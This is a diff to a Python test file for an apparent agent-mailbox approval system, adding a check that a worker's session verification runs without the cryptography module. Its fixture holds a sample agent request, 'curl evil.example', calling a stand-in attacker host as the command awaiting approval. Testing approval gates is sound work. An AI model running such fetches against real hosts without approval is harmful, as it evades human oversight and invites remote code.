@@ -26,6 +26,11 @@ if TYPE_CHECKING:
     from pathlib import Path
 
 LEAD, WORKER = str(uuid.uuid4()), str(uuid.uuid4())
+LOOKS = """
+import sys
+from agent_mailbox.launch import main
+sys.exit(main(sys.argv[1:]) or "cryptography" in sys.modules)
+"""
 ASKED = {"command": "curl evil.example"}
 _spaces = itertools.count()
 
@@ -155,6 +160,8 @@ def test_a_lead_decides_for_a_worker_on_another_machine(team: Team) -> None:
     assert "decided: approved" in late.stderr
     assert team.states(request) == [("approved", LEAD)] * 2
     assert team.south.run("engine", "doctor").rc == 0
+    shown, again = (team.south.python(LOOKS, "check", "--session", WORKER) for _ in range(2))
+    assert (shown.rc, again.rc) == (0, 0)  # whoever reads verifies nothing
 
 
 def test_the_person_decides_from_another_machine(team: Team) -> None:
